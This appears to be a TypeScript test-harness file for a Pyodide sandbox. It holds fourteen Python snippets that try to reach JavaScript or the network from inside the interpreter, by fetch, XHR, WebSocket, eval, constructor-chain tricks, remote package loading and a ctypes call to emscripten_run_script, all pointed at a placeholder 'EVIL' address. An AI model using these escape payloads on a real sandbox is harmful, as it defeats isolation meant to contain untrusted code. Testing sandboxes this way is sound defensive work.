/** Ways by which a Python program may try to reach JavaScript or a server. `EVIL` stands for an address that counts. */
const routes: Readonly<Record<string, string>> = {
  "js-fetch": `import js
js.fetch("EVIL")`,
  "js-xhr": `import js
x = js.XMLHttpRequest.new()
x.open("GET", "EVIL", False)
x.send()`,
  "js-web-socket": `import js
js.WebSocket.new("EVIL".replace("http", "ws"))`,
  "js-event-source": `import js
js.EventSource.new("EVIL")`,
  "js-worker": `import js
from pyodide.ffi import to_js
script = to_js(["fetch('EVIL')"])
js.Worker.new(js.URL.createObjectURL(js.Blob.new(script)))`,
  "js-broadcast-channel": `import js
channel = js.BroadcastChannel.new("to whoever runs next")
x = js.XMLHttpRequest.new()
x.open("GET", "EVIL", False)
x.send()`,
  "run-js": `from pyodide.code import run_js
run_js("fetch('EVIL')")`,
  "js-eval": `import js
js.eval("fetch('EVIL')")`,
  constructor: `from pyodide.ffi import to_js
to_js([1]).constructor.constructor("return fetch('EVIL')")()`,
  "dictionary-constructor": `from pyodide.ffi import to_js
to_js({"a": 1}).constructor.constructor("return fetch('EVIL')")()`,
  "exception-constructor": `import js
from pyodide.ffi import JsException
try:
    js.JSON.parse("{")
except JsException as error:
    getattr(error, "js_error", error).constructor.constructor("return fetch('EVIL')")()`,
  "fetch-by-prototype": `import js
js.Reflect.get(js.Object.getPrototypeOf(js.globalThis), "fetch", js.globalThis)
js.Reflect.apply(js.fetch, js.globalThis, js.Array.of("EVIL"))`,
  "load-package": `import pyodide_js
pyodide_js.loadPackage("EVIL/x.whl")`,
  "run-script": `import _ctypes
library = _ctypes.dlopen(None, 0)
_ctypes.call_function(_ctypes.dlsym(library, "emscripten_run_script"), (b"fetch('EVIL')",))`,
};

/** The name of the route by way of C. Where text may not become script it ends the interpreter. */
export const deadlyRoute = "run-script";

/** The names of all routes, in the order in which they are tried. */
export const routeNames: readonly string[] = Object.keys(routes);

/** A program that tries routes, going on when one fails, and then computes for as long as calls need to leave. */
export function routesProgram(evilUrl: string, names: readonly string[]): string {
  const parts = names.map(
    (name) => `
try:
    exec(${JSON.stringify(routes[name]?.replaceAll("EVIL", evilUrl + name))}, {})
except BaseException as error:
    print(${JSON.stringify(name)}, "failed:", type(error).__name__, str(error)[:200])
else:
    print(${JSON.stringify(name)}, "went through")`,
  );
  return `${parts.join("\n")}\nsum(range(5_000_000))\nprint("all tried")`;
}
